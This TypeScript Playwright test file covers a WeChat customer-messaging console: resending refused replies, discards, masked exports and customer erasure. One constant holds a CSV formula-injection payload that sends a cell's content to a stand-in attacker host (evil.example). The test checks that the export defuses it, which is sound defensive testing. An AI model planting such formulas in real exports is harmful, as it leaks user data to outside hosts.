import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator, Page } from 'playwright';
import type { ConsoleApp } from './console-app.ts';
import { expect, test } from './fixtures.ts';
import { foundRows, labelCustomer, openMessages, searchBox, searchFor, storyOf } from './messages-kit.ts';
import { atAgent, goTo, names, newConversation, onPhone } from './operations-kit.ts';
import type { SandboxClient } from './sandbox-client.ts';
import { saveAs } from './sla-kit.ts';

/** WeChat: content of this kind is refused; such a reply becomes a dead letter at once. */
const refusedCode = 48008;
/** WeChat: the system is busy; such a reply waits and is tried again. */
const busyCode = -1;
const sendPath = '/cgi-bin/message/custom/send';

/** Replies of WeChat's to one channel are an error until the faults are cleared. */
function answerWith(sandbox: SandboxClient, channel: string, code: number): Promise<void> {
  return sandbox.setFault({
    fault: 'errcode',
    target: channel,
    platform: 'wechat',
    options: { code, paths: [sendPath] },
  });
}

const chosenBar = (window: Page): Locator => window.getByRole('region', { name: 'Chosen messages' });
const dialogOf = (window: Page): Locator => window.getByRole('dialog');
const boxOf = (row: Locator): Locator => row.getByRole('checkbox');

const taskResults = (window: Page): Locator =>
  window
    .getByRole('table', { name: 'Results' })
    .getByRole('row')
    .filter({ has: window.getByRole('link') });

/** Begins what was counted, and follows it to its results. */
async function startTask(window: Page, button: string, count: number): Promise<void> {
  const dialog = dialogOf(window);
  await dialog.getByRole('button', { name: button, exact: true }).click();
  await expect(dialog).toContainText('Done');
  await expect(dialog).toContainText(`${count} of ${count}`);
  await expect(dialog).not.toContainText('skipped');
  await expect(dialog).not.toContainText('failed');
  await dialog.getByRole('link', { name: 'Results' }).click();
  await expect(dialog).toHaveCount(0);
  await expect(taskResults(window)).toHaveCount(count);
}

test('refused replies are sent again as one task, in order, and a discard of several is taken back', async ({
  quiet,
}) => {
  const { sandbox } = quiet;
  const { window } = quiet.app;
  const people = [
    { ...(await newConversation(sandbox, 'tulip', 'Where is my order?')), name: 'A' },
    { ...(await newConversation(sandbox, 'tulip', '我的订单呢？')), name: 'B' },
    { ...(await newConversation(sandbox, 'canal', 'Waar vertrekt de boot?')), name: 'C' },
  ] as const;
  for (const channel of ['tulip', 'canal']) await answerWith(sandbox, channel, refusedCode);
  // The conversations are mixed, so that order has to be kept apart from the whole.
  for (const turn of [1, 2, 3, 4]) {
    for (const { conversation, name } of people) await sandbox.agentReplies(conversation, `答复 ${name}${turn}`);
  }
  await openMessages(window);
  await searchFor(window, 'is:failed', 12);

  await window.getByRole('checkbox', { name: 'Choose these messages' }).check();
  await expect(chosenBar(window)).toContainText('12 messages chosen');
  await chosenBar(window).getByRole('button', { name: 'Send again…' }).click();
  await expect(dialogOf(window)).toContainText('Possible for 12 of 12 messages, in 3 conversations.');
  await expect(dialogOf(window).getByRole('list', { name: 'Of which channels' }).getByRole('listitem')).toHaveText([
    new RegExp(`${names.tulip}.* 8$`, 'u'),
    new RegExp(`${names.canal}.* 4$`, 'u'),
  ]);
  await expect(dialogOf(window)).toContainText('The oldest of them');
  await expect(dialogOf(window)).toContainText('答复 A1');
  await expect(dialogOf(window)).not.toContainText('Left out');
  // Counting did nothing yet.
  for (const { customer } of people) expect(await onPhone(sandbox, customer)).toEqual([]);

  await sandbox.clearFaults();
  await startTask(window, 'Send 12 messages of 2 channels again', 12);
  await expect(taskResults(window).filter({ hasText: 'Accepted by WeChat' })).toHaveCount(12);
  for (const { customer, name } of people) {
    expect(await onPhone(sandbox, customer)).toEqual([1, 2, 3, 4].map((turn) => `答复 ${name}${turn}`));
  }
  await openMessages(window);
  // The list stays as it was found until it is asked for again.
  await expect(foundRows(window).filter({ hasText: 'Accepted by WeChat' })).toHaveCount(12);
  await searchBox(window).press('Enter');
  await expect(foundRows(window)).toHaveCount(0);

  // Three more, of which two are discarded; of all that was written to A only what failed can be.
  const [first] = people;
  await answerWith(sandbox, 'tulip', refusedCode);
  for (const turn of [5, 6, 7]) await sandbox.agentReplies(first.conversation, `答复 A${turn}`);
  await searchFor(window, 'dir:out 答复', 15);
  await expect(foundRows(window).filter({ hasText: 'Undeliverable' })).toHaveCount(3);
  await sandbox.clearFaults();
  await boxOf(foundRows(window).nth(0)).check();
  await boxOf(foundRows(window).nth(14)).click({ modifiers: ['Shift'] });
  await chosenBar(window).getByRole('button', { name: 'Discard…' }).click();
  await expect(dialogOf(window)).toContainText('Possible for 3 of 15 messages, in 1 conversation.');
  await expect(dialogOf(window)).toContainText('Left out: 12');
  await dialogOf(window).getByRole('button', { name: 'Cancel' }).click();
  await chosenBar(window).getByRole('button', { name: 'Choose none' }).click();

  await searchFor(window, 'is:failed', 3);
  await boxOf(foundRows(window).filter({ hasText: '答复 A5' })).check();
  await boxOf(foundRows(window).filter({ hasText: '答复 A6' })).check();
  await chosenBar(window).getByRole('button', { name: 'Discard…' }).click();
  await expect(dialogOf(window)).toContainText('Possible for 2 of 2 messages, in 1 conversation.');
  await startTask(window, `Discard 2 messages of ${names.tulip}`, 2);
  await expect(taskResults(window).filter({ hasText: 'Discarded' })).toHaveCount(2);
  expect(await onPhone(sandbox, first.customer)).toHaveLength(4);

  await window.getByRole('button', { name: /^Take back 2/u }).click();
  await expect(taskResults(window).filter({ hasText: 'Undeliverable' })).toHaveCount(2);
  await expect(window.getByRole('button', { name: /^Take back 2/u })).toHaveCount(0);
  await openMessages(window);
  await searchBox(window).press('Enter');
  await expect(foundRows(window)).toHaveCount(3);
  await window.getByRole('checkbox', { name: 'Choose these messages' }).check();
  await chosenBar(window).getByRole('button', { name: 'Send again…' }).click();
  await startTask(window, `Send 3 messages of ${names.tulip} again`, 3);

  await expect
    .poll(() => onPhone(sandbox, first.customer))
    .toEqual([1, 2, 3, 4, 5, 6, 7].map((turn) => `答复 A${turn}`));
  expect(await sandbox.report()).toMatchObject({ lost: 0, duplicates: 0, orderBreaksIn: 0, orderBreaksOut: 0 });
});

const phone = '020 123 4567';
const formula = '=HYPERLINK("https://evil.example?x="&A1,"uitvoer")';

/** Exports what stands in the search box, and gives what the file holds. */
async function exported(
  app: ConsoleApp,
  fileName: string,
  form: string,
  rows: number,
  reason?: string,
): Promise<string> {
  const { window } = app;
  const path = join(app.profile, fileName);
  await saveAs(app, path);
  await window.getByRole('button', { name: 'Export…' }).click();
  const dialog = dialogOf(window);
  await expect(dialog).toContainText('uitvoer');
  await dialog.getByRole('radio', { name: form }).check({ force: true });
  if (reason !== undefined) {
    await dialog.getByRole('checkbox', { name: 'With unmasked texts and ids' }).check({ force: true });
    await dialog.getByRole('button', { name: 'Choose where to save…' }).click();
    await expect(dialog).toContainText('Say why, in at least five characters.');
    await dialog.getByLabel('Why').fill(reason);
  }
  await dialog.getByRole('button', { name: 'Choose where to save…' }).click();
  await expect(dialog).toContainText('Done');
  await expect(dialog).toContainText(`${rows} messages`);
  await dialog.getByRole('button', { name: 'Close' }).last().click();
  await expect(dialog).toHaveCount(0);
  return readFileSync(path, 'utf8');
}

/** Rows of a CSV file by the names of their columns (RFC 4180). */
function csvRows(text: string): Record<string, string>[] {
  const cells = [...text.replace(/^\uFEFF/u, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)];
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of cells) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  const [head = [], ...lines] = rows;
  return lines
    .filter((line) => line.length === head.length)
    .map((line) => Object.fromEntries(head.map((column, index) => [column, line[index] ?? ''])));
}

test('an export holds what the search finds: masked unless a reason is given, and no formula', async ({ quiet }) => {
  const { app, sandbox } = quiet;
  const { window } = app;
  const caller = await newConversation(sandbox, 'tulip', `uitvoer: bel mij op ${phone}，请回电`);
  await sandbox.newCustomerSays('tulip', formula);
  await sandbox.newCustomerSays('canal', 'uitvoer of another channel');
  await sandbox.agentReplies(caller.conversation, 'Morgen, uitvoer 明天');
  await openMessages(window);
  await searchFor(window, 'channel:tulip uitvoer', 3);

  const csv = await exported(app, 'masked.csv', 'CSV', 3);
  const rows = csvRows(csv);
  expect(rows.map(({ direction, text }) => [direction, text])).toEqual([
    ['outbound', 'Morgen, uitvoer 明天'],
    ['inbound', `'${formula}`],
    ['inbound', 'uitvoer: bel mij op ••••，请回电'],
  ]);
  expect(rows.map(({ state }) => state)).toEqual(['delivered', 'delivered', 'delivered']);
  for (const { received_at: at } of rows) expect(at).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+(?:Z|[+-]\d\d:\d\d)$/u);
  expect(rows.at(-1)?.['openid']).toBe(`…${caller.customer.slice(-4)}`);

  const masked = await exported(app, 'masked.jsonl', 'JSON Lines', 3);
  const lines = masked
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines.map(({ seq, message_id: id }) => [String(seq), id])).toEqual(
    rows.map(({ seq, message_id: id }) => [seq, id]),
  );
  expect(lines.map(({ text }) => text)).toEqual(['Morgen, uitvoer 明天', formula, 'uitvoer: bel mij op ••••，请回电']);
  for (const file of [csv, masked]) {
    expect(file).not.toContain(phone);
    expect(file).not.toContain(caller.customer);
    expect(file).not.toContain('another channel');
  }

  const reason = 'Complaint 4711 of the regulator';
  const unmasked = await exported(app, 'unmasked.csv', 'CSV', 3, reason);
  expect(csvRows(unmasked).at(-1)).toMatchObject({
    text: `uitvoer: bel mij op ${phone}，请回电`,
    openid: caller.customer,
  });

  await goTo(window, '/incidents');
  await window.getByRole('radio', { name: 'Who did what' }).check({ force: true });
  const audit = window.getByRole('region', { name: 'Who did what' }).getByRole('row');
  const noted = audit.filter({ hasText: 'Exported messages' });
  await expect(noted.filter({ hasText: `csv, unmasked: ${reason}` })).toHaveCount(1);
  await expect(noted.filter({ hasText: 'csv, masked' })).toHaveCount(1);
  await expect(noted.filter({ hasText: 'jsonl, masked' })).toHaveCount(1);
  await expect(noted.filter({ hasText: 'done, 3 rows' })).toHaveCount(3);
});

test('an erased customer is gone everywhere here, and new when writing again', async ({ quiet }) => {
  const { sandbox } = quiet;
  const { window } = quiet.app;
  const { customer, conversation } = await newConversation(sandbox, 'tulip', '紫藤 please forget me');
  await newConversation(sandbox, 'tulip', '紫藤 of somebody else');
  await sandbox.agentReplies(conversation, '紫藤 as you wish');
  await openMessages(window);
  await searchFor(window, '紫藤 forget', 1);
  await foundRows(window).getByRole('link', { name: 'Open message' }).click();
  await labelCustomer(window, '李雷 Forgotten');
  const erasedPage = await window.evaluate(() => globalThis.location.hash);

  await answerWith(sandbox, 'tulip', busyCode);
  await sandbox.agentReplies(conversation, '紫藤 still under way');
  await reopen(window, erasedPage);
  await window.getByRole('button', { name: 'Erase…' }).click();
  await expect(dialogOf(window).getByRole('alert')).toHaveText(
    '1 message waits to be delivered. Deliver or discard it first.',
  );
  await expect(dialogOf(window).getByRole('button', { name: 'Erase for good' })).toBeDisabled();
  await dialogOf(window).getByRole('button', { name: 'Cancel' }).click();
  await sandbox.clearFaults();
  await expect.poll(() => onPhone(sandbox, customer)).toContain('紫藤 still under way');
  await openMessages(window);
  await searchFor(window, '紫藤 is:delivered', 4);

  const before = await sandbox.conversationOf(customer);
  await reopen(window, erasedPage);
  await window.getByRole('button', { name: 'Erase…' }).click();
  const typed = dialogOf(window).getByLabel('To go on, type the last four characters');
  // Beginning to follow is one of them.
  await expect(dialogOf(window)).toContainText('4 messages with texts, time lines and files');
  await typed.fill('no');
  await dialogOf(window).getByRole('button', { name: 'Erase for good' }).click();
  await expect(dialogOf(window)).toContainText('These are other characters.');
  await typed.fill(customer.slice(-4));
  await dialogOf(window).getByRole('button', { name: 'Erase for good' }).click();
  await expect(window.getByText('Removed for good: 4 messages and 0 files.')).toBeVisible();

  await openMessages(window);
  await searchFor(window, '紫藤', 1);
  await expect(foundRows(window)).toContainText('somebody else');
  for (const trace of ['forget', 'customer:李雷', customer]) {
    await searchBox(window).fill(trace);
    await expect(window.getByText('No message matches')).toBeVisible();
  }
  expect(await sandbox.conversationOf(customer)).toEqual(before);

  await sandbox.customerSays(customer, '紫藤 it is me again');
  await expect.poll(() => atAgent(sandbox, customer)).toContain('紫藤 it is me again');
  await searchFor(window, '紫藤 again', 1);
  await expect(foundRows(window)).not.toContainText('李雷');
  await foundRows(window).getByRole('link', { name: 'Open message' }).click();
  await storyOf(window).locator('a[href^="#/customer/"]').click();
  await expect(window.getByLabel('Label')).toHaveValue('');
  expect(await window.evaluate(() => globalThis.location.hash)).not.toBe(erasedPage);
  expect(await sandbox.report()).toMatchObject({ lost: 0, duplicates: 0 });
});

/** A page that asks only when it opens. */
async function reopen(window: Page, hash: string): Promise<void> {
  await goTo(window, '/');
  await goTo(window, hash.slice(1));
}

const traffic = (window: Page): Locator =>
  window
    .getByRole('table', { name: 'Messages, newest first' })
    .getByRole('row')
    .filter({ has: window.getByRole('link') });

test('live traffic counts what passes, leads to it, is narrowed, and loses nothing while it is held', async ({
  quiet,
}) => {
  const { sandbox } = quiet;
  const { window } = quiet.app;
  const { conversation } = await newConversation(sandbox, 'tulip', 'kompas one');
  await sandbox.newCustomerSays('tulip', 'kompas two');
  await sandbox.newCustomerSays('canal', 'other words');
  await sandbox.agentReplies(conversation, 'kompas three');
  await window.getByRole('link', { name: 'Live traffic' }).click();
  await expect(traffic(window).filter({ hasText: 'kompas' })).toHaveCount(3);

  await window.getByLabel('Text in excerpts').fill('kompas');
  await expect(traffic(window)).toHaveCount(3);
  await window.getByRole('button', { name: 'Type: Any type' }).click();
  await window.getByRole('checkbox', { name: 'Image' }).check();
  await expect(traffic(window)).toHaveCount(0);
  await window.getByRole('checkbox', { name: 'Image' }).uncheck();
  await window.getByRole('checkbox', { name: 'Text', exact: true }).check();
  await window.keyboard.press('Escape');
  await expect(traffic(window)).toHaveCount(3);

  await window.getByRole('button', { name: 'Pause' }).click();
  const { customer } = await newConversation(sandbox, 'tulip', 'kompas held 1');
  for (const turn of [2, 3, 4, 5]) await sandbox.customerSays(customer, `kompas held ${turn}`);
  await expect(window.getByText('5 held')).toBeVisible();
  await expect(traffic(window)).toHaveCount(3);
  await window.getByRole('button', { name: 'Resume' }).click();
  await expect(traffic(window)).toHaveCount(8);
  for (const [index, turn] of [5, 4, 3, 2, 1].entries()) {
    await expect(traffic(window).nth(index)).toContainText(`kompas held ${turn}`);
    await expect(traffic(window).nth(index)).toContainText('Accepted by CXone');
  }

  await openFromPoint(window);
  await openFromNumber(window);
});

/** What the slider of the first chart says of its point: "14:20  ·  To CXone 3  ·  To customers 1". */
function countsAt(words: string | null): number {
  const [inbound = 0, outbound = 0] = [...(words ?? '').matchAll(/To \w+ (\d+)/gu)].map(([, count]) => Number(count));
  return inbound + outbound;
}

/** Walks to a minute in which something passed; Enter opens just that, and so does a press on the chart. */
async function openFromPoint(window: Page): Promise<void> {
  // Figures are asked for when the page opens, and then only now and again.
  await expect(async () => {
    await reopen(window, '#/traffic');
    const points = window.getByRole('slider', { name: 'Messages received' });
    await points.focus({ timeout: 2_000 });
    while (countsAt(await points.getAttribute('aria-valuetext')) === 0) {
      expect(Number(await points.getAttribute('aria-valuenow'))).toBeGreaterThan(0);
      await points.press('ArrowLeft');
    }
    const count = countsAt(await points.getAttribute('aria-valuetext'));
    await points.press('Enter');
    await expect(searchBox(window)).toHaveValue(/^after:\S+ before:\S+$/u, { timeout: 2_000 });
    await expect(foundRows(window)).toHaveCount(count, { timeout: 2_000 });
  }).toPass({ timeout: 20_000 });

  await goTo(window, '/traffic');
  const lines = window.getByRole('figure', { name: 'Messages received' }).locator('.u-over');
  await expect(lines).toBeVisible();
  const { width, height } = (await lines.boundingBox()) ?? { width: 0, height: 0 };
  await lines.click({ position: { x: width / 2, y: height / 2 } });
  await expect(searchBox(window)).toHaveValue(/^after:\S+ before:\S+$/u);
  // Half an hour ago nothing was.
  await expect(foundRows(window)).toHaveCount(0);
}

async function openFromNumber(window: Page): Promise<void> {
  await goTo(window, '/traffic');
  await window.getByRole('button', { name: 'As a table' }).click();
  const table = window.getByRole('table', { name: 'Figures as a table, newest first' });
  const outgoing = table
    .getByRole('row')
    .filter({ has: window.getByRole('link') })
    .locator('td:nth-of-type(2) a');
  const count = Number(await outgoing.first().textContent());
  await outgoing.first().click();
  await expect(searchBox(window)).toHaveValue(/^dir:out after:\S+ before:\S+$/u);
  await expect(foundRows(window)).toHaveCount(count);
}
